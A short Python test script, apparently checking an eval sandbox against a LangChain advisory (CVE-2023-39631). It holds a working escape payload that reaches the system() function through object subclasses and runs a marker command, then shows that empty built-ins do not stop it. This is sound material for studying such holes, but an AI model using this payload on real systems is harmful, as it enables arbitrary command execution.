# An expression that is more than numbers, given to eval with empty built-ins.
# advisory: CVE-2023-39631 (LangChain)
print("ATTEMPTED")
text = "(lambda c=[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]: c.__init__.__globals__['system']('touch @TARGET_DIR@/made'))()"
for namespace in {}, {"__builtins__": None}, {"__builtins__": {}}:
    try:
        print("ESCAPED", eval(text, namespace))
    except Exception as error:
        print(type(error).__name__)
